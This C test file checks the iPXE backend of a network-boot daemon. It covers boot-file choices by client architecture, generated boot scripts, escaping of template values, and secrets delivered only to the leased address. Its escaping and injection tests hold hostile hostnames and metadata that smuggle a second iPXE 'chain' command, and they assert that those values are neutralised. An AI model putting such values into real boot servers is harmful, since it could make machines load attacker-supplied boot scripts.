/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* The iPXE backend through the core: decisions, scripts, escaping, errors. */
#include "pxed-test-core.h"

typedef struct {
	PxedTestCore *tc;
	const char *dir; /* the test core's */
	PxedCore *core;
} Fixture;

static void
fixture_load(Fixture *f, const char *extra)
{
	g_autofree char *conf = g_strdup_printf(
		"[ipxe]\nbase-url=http://192.0.2.10:8080/\n%s\n[pipeline]\nboot=ipxe\nhttp=ipxe\n",
		extra);

	pxed_test_core_load(f->tc, conf);
	f->core = pxed_test_core_get_core(f->tc);
}

static void
setup(Fixture *f, gconstpointer data)
{
	f->tc = pxed_test_core_new();
	f->dir = pxed_test_core_get_dir(f->tc);
	pxed_test_write_file(f->dir, "worker.ipxe",
			     "#!ipxe\nset role {{metadata.role}}\nkernel {{kernel}} {{args}}\n"
			     "{{if metadata.disk}}set disk {{metadata.disk}}\n{{end}}boot\n");
	pxed_test_write_file(f->dir, "broken.ipxe",
			     "#!ipxe\n\nkernel {{kernel}}\necho {{metadata.nope}}\n");
	pxed_test_write_file(
		f->dir, "named.ipxe",
		"#!ipxe\necho booting {{hostname}}\nchain "
		"http://192.0.2.10:8080/next?host={{hostname}}&serial={{query.serial}} "
		"|| goto failed\nexit\n:failed\nexit 1\n");
	pxed_test_write_file(f->dir, "cloud.yaml", "#cloud-config\nhostname: {{hostname}}\n");
	pxed_test_write_file(f->dir, "ign.json", "{\"h\": \"{{metadata.role}}\"}");
	fixture_load(f, (const char *)data);
}

static void
teardown(Fixture *f, gconstpointer data)
{
	pxed_test_core_free(f->tc);
}

static char *
fetch(Fixture *f, const char *client_text, const char *path, GError **error)
{
	g_autoptr(PxedClient) client = pxed_client_new_from_string(client_text, NULL);
	g_autoptr(PxedFile) file =
		pxed_core_open_file(f->core, PXED_VIA_HTTP, client, path, NULL, error);
	return file != NULL ? pxed_test_file_read_all(file) : NULL;
}

static const char inventory[] =
	"[profile:debian]\nkernel=/assets/linux\ninitrd=/assets/initrd.gz;/assets/fw.cpio\n"
	"args=console=ttyS0 pxed.marker=debian\n"
	"[profile:worker]\nkernel=http://192.0.2.10:8080/k\nargs=quiet\n"
	"ipxe-template=../worker.ipxe\ncloud-config=../cloud.yaml\nignition=../ign.json\n"
	"metadata.role=worker\n"
	"[profile:broken]\nkernel=/k\nipxe-template=../broken.ipxe\n"
	"[group:node1]\nprofile=debian\nselector.mac=52:54:00:00:00:01\n"
	"[group:node2]\nprofile=worker\nselector.mac=52:54:00:00:00:02\n"
	"metadata.role=web \"front\"\\n:evil\\r\\nchain ${evil} || "
	"reboot\nmetadata.hostname=node-2\n"
	"[group:node3]\nprofile=broken\nselector.mac=52:54:00:00:00:03\n"
	"[profile:named]\nkernel=/k\nipxe-template=../named.ipxe\n"
	"[group:node4]\nprofile=named\nselector.mac=52:54:00:00:00:04\n";

static void
test_decisions(Fixture *f, gconstpointer data)
{
	const struct {
		const char *client;
		const char *filename; /* NULL: declined */
		const char *vendor;
	} cases[] = {
		{"arch=0", "undionly.kpxe", "PXEClient"},
		{"", "undionly.kpxe", "PXEClient"}, /* no option 93: old BIOS PXE */
		{"arch=6", NULL, NULL},		    /* no ia32 build configured */
		{"arch=7", "ipxe.efi", "PXEClient"},
		{"arch=9", "ipxe.efi", "PXEClient"},
		{"arch=11", "ipxe-arm64.efi", "PXEClient"},
		{"arch=10", NULL, NULL},
		{"arch=0,user-class=iPXE", "http://192.0.2.10:8080/boot.ipxe", "PXEClient"},
		{"arch=7,user-class=iPXE", "http://192.0.2.10:8080/boot.ipxe", "PXEClient"},
		{"arch=7,ipxe-options=1", "http://192.0.2.10:8080/boot.ipxe", "PXEClient"},
		{"arch=7,user-class=gPXE", "ipxe.efi", "PXEClient"},
		{"arch=16,vendor-class=HTTPClient:Arch:00016:UNDI:003001",
		 "http://192.0.2.10:8080/ipxe.efi", "HTTPClient"},
		{"arch=19,vendor-class=HTTPClient:Arch:00019",
		 "http://192.0.2.10:8080/ipxe-arm64.efi", "HTTPClient"},
		{"arch=16,vendor-class=HTTPClient,user-class=iPXE",
		 "http://192.0.2.10:8080/boot.ipxe", "PXEClient"},
	};
	for (guint i = 0; i < G_N_ELEMENTS(cases); i++) {
		g_autoptr(PxedClient) client = pxed_client_new_from_string(cases[i].client, NULL);
		g_autoptr(GError) error = NULL;
		g_autoptr(PxedBootReply) reply = pxed_core_boot(f->core, client, &error);
		g_test_message("%s", cases[i].client);
		if (cases[i].filename == NULL) {
			g_assert_error(error, PXED_ERROR, PXED_ERROR_NOT_FOUND);
			continue;
		}
		g_assert_no_error(error);
		g_assert_cmpstr(pxed_boot_reply_get_filename(reply), ==, cases[i].filename);
		g_assert_cmpstr(pxed_boot_reply_get_vendor_class(reply), ==, cases[i].vendor);
		g_assert_cmpstr(pxed_boot_reply_get_origin(reply), ==, "ipxe");
	}
}

static void
test_boot_script(Fixture *f, gconstpointer data)
{
	g_autoptr(GError) error = NULL;
	g_autofree char *text = fetch(f, "ip=192.0.2.50", "/boot.ipxe", &error);
	g_assert_no_error(error);
	g_assert_true(g_str_has_prefix(text, "#!ipxe\n"));
	/* iPXE's own settings are left for iPXE, the base URL is ours */
	g_assert_nonnull(strstr(text,
				"chain --autofree http://192.0.2.10:8080/ipxe?mac=${mac:hexhyp}"
				"&uuid=${uuid}&platform=${platform}&buildarch=${buildarch}"));
}

static void
test_machine_script(Fixture *f, gconstpointer data)
{
	g_autoptr(GError) error = NULL;
	g_autofree char *bios = fetch(f, "mac=52:54:00:00:00:01,platform=pcbios", "ipxe", &error);
	g_autofree char *efi = fetch(f, "mac=52:54:00:00:00:01,platform=efi", "ipxe", &error);
	g_autofree char *efi_arch = fetch(f, "mac=52:54:00:00:00:01,arch=7", "ipxe", &error);

	g_assert_no_error(error);
	g_assert_nonnull(strstr(bios,
				"\nkernel /assets/linux console=ttyS0 pxed.marker=debian "
				"|| goto failed\ninitrd /assets/initrd.gz || goto failed\n"
				"initrd /assets/fw.cpio || goto failed\nboot || goto failed\n"));
	/* under EFI the kernel line names its initrds */
	g_assert_nonnull(strstr(efi, "\nkernel /assets/linux initrd=initrd.gz initrd=fw.cpio "
				     "console=ttyS0 pxed.marker=debian || goto failed\n"));
	g_assert_cmpstr(efi, ==, efi_arch);
}

static void
test_escaping(Fixture *f, gconstpointer data)
{
	g_autoptr(GError) error = NULL;
	g_autofree char *text = fetch(f, "mac=52:54:00:00:00:02", "ipxe", &error);
	g_auto(GStrv) lines = NULL;

	g_assert_no_error(error);
	g_assert_cmpstr(
		text, ==,
		"#!ipxe\nset role web%20%22front%22%0A:evil%0D%0Achain%20%24%7Bevil%7D%20%7C%7C%20"
		"reboot\n"
		"kernel http://192.0.2.10:8080/k quiet\nboot\n");
	lines = g_strsplit(text, "\n", -1);
	g_assert_cmpuint(g_strv_length(lines), ==, 5);
}

static void
test_unknown_variable(Fixture *f, gconstpointer data)
{
	g_autoptr(GError) error = NULL;
	g_autofree char *text = fetch(f, "mac=52:54:00:00:00:03", "ipxe", &error);
	g_autofree char *where =
		g_strdup_printf("%s/broken.ipxe:4: unknown variable 'metadata.nope'", f->dir);

	/* the console says which template, line and variable */
	g_assert_no_error(error);
	g_assert_true(g_str_has_prefix(text, "#!ipxe\necho pxed: cannot make the boot script"));
	g_assert_nonnull(strstr(text, where));
	g_assert_true(g_str_has_suffix(text, "exit 1\n"));
}

static void
test_no_match(Fixture *f, gconstpointer data)
{
	const char *mode = data;
	g_autoptr(GError) error = NULL;
	g_autofree char *text = fetch(f, "mac=52:54:00:00:00:77,platform=efi", "ipxe", &error);

	g_assert_no_error(error);
	g_assert_nonnull(strstr(text, "echo pxed: this machine is not in the inventory"));
	g_assert_nonnull(strstr(text, "selector.mac=52:54:00:00:00:77"));
	g_assert_nonnull(strstr(text, "echo pxed: mac=52:54:00:00:00:77,platform=efi\n"));
	if (strstr(mode, "retry") != NULL) {
		g_assert_nonnull(strstr(text, "\nsleep 7\nchain --autofree "
					      "http://192.0.2.10:8080/boot.ipxe\n"));
	} else if (strstr(mode, "menu") != NULL) {
		g_assert_nonnull(
			strstr(text, "\nmenu pxed: this machine is not in the inventory\n"));
		g_assert_null(strstr(text, "sleep"));
	} else {
		g_assert_null(strstr(text, "sleep"));
		g_assert_null(strstr(text, "menu"));
		g_assert_true(
			g_str_has_suffix(text, "echo pxed: trying the next boot device\nexit 0\n"));
	}
}

static void
test_other_templates(Fixture *f, gconstpointer data)
{
	g_autoptr(GError) error = NULL;
	g_autofree char *cloud = fetch(f, "mac=52:54:00:00:00:02", "cloud", &error);
	g_autofree char *ign = NULL;
	g_autofree char *none = NULL;

	g_assert_no_error(error);
	g_assert_cmpstr(cloud, ==, "#cloud-config\nhostname: \"node-2\"\n");
	ign = fetch(f, "mac=52:54:00:00:00:02", "ignition", &error);
	g_assert_no_error(error);
	/* JSON escaping keeps the document valid whatever the metadata holds */
	g_assert_cmpstr(ign, ==,
			"{\"h\": \"web \\\"front\\\"\\n:evil\\r\\nchain ${evil} || reboot\"}");
	none = fetch(f, "mac=52:54:00:00:00:01", "generic", &error);
	g_assert_null(none);
	g_assert_error(error, PXED_ERROR, PXED_ERROR_NOT_FOUND);
	g_clear_error(&error);
	none = fetch(f, "mac=52:54:00:00:00:99", "cloud", &error);
	g_assert_error(error, PXED_ERROR, PXED_ERROR_NOT_FOUND);
	g_clear_error(&error);
	/* anything else is declined: the pipeline reports it as not found */
	none = fetch(f, "mac=52:54:00:00:00:01", "vmlinuz", &error);
	g_assert_error(error, PXED_ERROR, PXED_ERROR_NOT_FOUND);
}

/* pxed's DHCP server leased 192.0.2.50 to node2 (52:54:00:00:00:02). */
static PxedLeaseStore *
lease_node2(Fixture *f)
{
	PxedInstance *instance = pxed_test_core_instance(f->tc, "dhcp");
	g_autoptr(GError) error = NULL;
	PxedLeaseStore *store = pxed_instance_lease_open(instance, "leases", &error);
	g_autoptr(PxedLease) lease = pxed_lease_new("01:52:54:00:00:00:02", 0);

	g_assert_no_error(error);
	pxed_lease_set_address(lease, g_htonl(0xc0000232u));
	pxed_lease_set_state(lease, PXED_LEASE_BOUND);
	pxed_lease_set_expires(lease, g_get_real_time() / G_USEC_PER_SEC + 600);
	pxed_lease_set_mac(lease, "52:54:00:00:00:02");
	pxed_test_lease_put(instance, store, lease);
	return store;
}

/* Templates that may carry secrets go only to the address leased to the
 * machine they are for: a query from elsewhere naming node2's MAC gets 403. */
static void
test_secrets_bound(Fixture *f, gconstpointer data)
{
	const char *kinds[] = {"cloud", "ignition"};
	PxedLeaseStore *store = lease_node2(f);

	for (guint i = 0; i < G_N_ELEMENTS(kinds); i++) {
		g_autoptr(GError) error = NULL;
		g_autofree char *own =
			fetch(f, "mac=52:54:00:00:00:02,ip=192.0.2.50", kinds[i], &error);
		g_autofree char *stolen = NULL;
		g_autofree char *no_address = NULL;
		g_autofree char *unnamed = NULL;

		g_assert_no_error(error);
		g_assert_nonnull(own);
		stolen = fetch(f, "mac=52:54:00:00:00:02,ip=192.0.2.51", kinds[i], &error);
		g_assert_null(stolen);
		g_assert_error(error, PXED_ERROR, PXED_ERROR_DENIED);
		g_clear_error(&error);
		no_address = fetch(f, "mac=52:54:00:00:00:02", kinds[i], &error);
		g_assert_error(error, PXED_ERROR, PXED_ERROR_DENIED);
		g_clear_error(&error);
		/* the lease holder asking for another machine's */
		unnamed = fetch(f, "mac=52:54:00:00:00:01,ip=192.0.2.50", kinds[i], &error);
		g_assert_error(error, PXED_ERROR, PXED_ERROR_DENIED);
	}
	pxed_instance_lease_close(pxed_test_core_instance(f->tc, "dhcp"), store);
}

/* bind-secrets-to-lease=false: any address gets them (the previous test's
 * 403 is the key's doing, not the lease store's). */
static void
test_secrets_unbound(Fixture *f, gconstpointer data)
{
	g_autoptr(GError) error = NULL;
	PxedLeaseStore *store = lease_node2(f);
	g_autofree char *cloud = fetch(f, "mac=52:54:00:00:00:02,ip=192.0.2.51", "cloud", &error);

	g_assert_no_error(error);
	g_assert_cmpstr(cloud, ==, "#cloud-config\nhostname: \"node-2\"\n");
	pxed_instance_lease_close(pxed_test_core_instance(f->tc, "dhcp"), store);
}

/* bind-secrets-to-lease=true without a DHCP server: nothing is leased, so
 * nothing is handed out (auto, the default, serves them: other-templates). */
static void
test_secrets_always(Fixture *f, gconstpointer data)
{
	g_autoptr(GError) error = NULL;
	g_autofree char *cloud = fetch(f, "mac=52:54:00:00:00:02,ip=192.0.2.50", "cloud", &error);

	g_assert_null(cloud);
	g_assert_error(error, PXED_ERROR, PXED_ERROR_DENIED);
}

/* The command names of an iPXE script as iPXE reads it (src/image/script.c,
 * src/core/exec.c): lines (a trailing `\\` joins the next), an optional
 * :label, blank-separated tokens, `;` `||` `&&` between commands, `#` to
 * the end of the line. Every token goes into @tokens. */
static GPtrArray *
ipxe_command_names(const char *script, GPtrArray *tokens)
{
	GPtrArray *names = g_ptr_array_new_with_free_func(g_free);
	g_autofree char *joined = NULL;
	g_autoptr(GString) s = g_string_new(script);
	g_auto(GStrv) lines = NULL;

	g_string_replace(s, "\\\n", "", 0);
	g_string_replace(s, "\\\r\n", "", 0);
	lines = g_strsplit(s->str, "\n", -1);
	for (guint i = 0; lines[i] != NULL; i++) {
		g_auto(GStrv) words = g_strsplit_set(lines[i], " \t\r\v\f", -1);
		gboolean first = TRUE;
		guint w = 0;
		while (words[w] != NULL && words[w][0] == '\0')
			w++;
		if (words[w] != NULL && words[w][0] == ':')
			w++; /* a label */
		for (; words[w] != NULL; w++) {
			const char *t = words[w];
			if (t[0] == '\0')
				continue;
			if (t[0] == '#')
				break;
			g_ptr_array_add(tokens, g_strdup(t));
			if (g_str_equal(t, ";") || g_str_equal(t, "||") || g_str_equal(t, "&&")) {
				first = TRUE;
				continue;
			}
			if (first)
				g_ptr_array_add(names, g_strdup(t));
			first = FALSE;
		}
	}
	return names;
}

static char *
fetch_as(Fixture *f, const char *mac, const char *hostname)
{
	g_autoptr(PxedClient) client = pxed_client_new();
	g_autoptr(PxedFile) file = NULL;
	g_autoptr(GError) error = NULL;

	g_assert_true(pxed_client_set_mac_string(client, mac, NULL));
	/* iPXE's query: hostname=… and serial=… (boot.ipxe sends both) */
	pxed_client_set_hostname(client, hostname);
	pxed_client_set_attribute(client, "serial", hostname);
	file = pxed_core_open_file(f->core, PXED_VIA_HTTP, client, "ipxe", NULL, &error);
	g_assert_no_error(error);
	return pxed_test_file_read_all(file);
}

/* A hostname (DHCP option 12, or iPXE's hostname= query parameter) with a
 * standalone `;` must not become a second command: neither in the
 * machine's own script nor in the no-match script that echoes the client. */
static void
test_injection(Fixture *f, gconstpointer data)
{
	static const char *const hostile[] = {
		"x ; chain http://elsewhere/p.ipxe",
		"x || chain http://elsewhere/p.ipxe",
		"x && chain http://elsewhere/p.ipxe",
		"x\nchain http://elsewhere/p.ipxe",
		"x\r\nchain http://elsewhere/p.ipxe",
		"x\\",
		"x #",
		"${net0/mac}",
		"-",
	};
	static const char *const macs[] = {"52:54:00:00:00:04", "52:54:00:00:00:77"};

	for (guint m = 0; m < G_N_ELEMENTS(macs); m++) {
		g_autofree char *benign = fetch_as(f, macs[m], "node");
		g_autoptr(GPtrArray) benign_tokens = g_ptr_array_new_with_free_func(g_free);
		g_autoptr(GPtrArray) want = ipxe_command_names(benign, benign_tokens);

		/* the machine's script echoes and passes on the hostname; no-match
		 * echoes the client, hostname included */
		g_assert_nonnull(strstr(benign, m == 0 ? "echo booting node\n" : "hostname=node"));
		for (guint i = 0; i < G_N_ELEMENTS(hostile); i++) {
			g_autofree char *text = fetch_as(f, macs[m], hostile[i]);
			g_autoptr(GPtrArray) tokens = g_ptr_array_new_with_free_func(g_free);
			g_autoptr(GPtrArray) got = ipxe_command_names(text, tokens);

			g_test_message("%s: %s", macs[m], text);
			g_assert_cmpuint(got->len, ==, want->len);
			for (guint c = 0; c < want->len; c++)
				g_assert_cmpstr(got->pdata[c], ==, want->pdata[c]);
			g_assert_cmpuint(tokens->len, ==, benign_tokens->len);
			for (guint t = 0; t < tokens->len; t++) {
				const char *tok = tokens->pdata[t];
				g_assert_cmpstr(tok, !=, "http://elsewhere/p.ipxe");
				g_assert_null(strstr(tok, "${net0"));
			}
		}
	}
}

int
main(int argc, char **argv)
{
	g_autofree char *exit_conf = g_strconcat(inventory, "", NULL);
	g_autofree char *retry_conf = NULL;
	g_autofree char *menu_conf = NULL;
	g_autofree char *unbound_conf = NULL;
	g_autofree char *always_conf = NULL;

	g_test_init(&argc, &argv, NULL);
	retry_conf = g_strdup_printf("%s[ipxe]\nno-match=retry\nretry-seconds=7\n", inventory);
	menu_conf = g_strdup_printf("%s[ipxe]\nno-match=menu\n", inventory);
	unbound_conf = g_strdup_printf("%s[ipxe]\nbind-secrets-to-lease=false\n", inventory);
	always_conf = g_strdup_printf("%s[ipxe]\nbind-secrets-to-lease=true\n", inventory);
	g_test_add("/ipxe/decisions", Fixture, inventory, setup, test_decisions, teardown);
	g_test_add("/ipxe/boot-script", Fixture, inventory, setup, test_boot_script, teardown);
	g_test_add("/ipxe/machine-script", Fixture, inventory, setup, test_machine_script,
		   teardown);
	g_test_add("/ipxe/escaping", Fixture, inventory, setup, test_escaping, teardown);
	g_test_add("/ipxe/unknown-variable", Fixture, inventory, setup, test_unknown_variable,
		   teardown);
	g_test_add("/ipxe/no-match/exit", Fixture, exit_conf, setup, test_no_match, teardown);
	g_test_add("/ipxe/no-match/retry", Fixture, retry_conf, setup, test_no_match, teardown);
	g_test_add("/ipxe/no-match/menu", Fixture, menu_conf, setup, test_no_match, teardown);
	g_test_add("/ipxe/injection", Fixture, inventory, setup, test_injection, teardown);
	g_test_add("/ipxe/other-templates", Fixture, inventory, setup, test_other_templates,
		   teardown);
	g_test_add("/ipxe/secrets/bound-to-lease", Fixture, inventory, setup, test_secrets_bound,
		   teardown);
	g_test_add("/ipxe/secrets/unbound", Fixture, unbound_conf, setup, test_secrets_unbound,
		   teardown);
	g_test_add("/ipxe/secrets/always", Fixture, always_conf, setup, test_secrets_always,
		   teardown);
	return g_test_run();
}
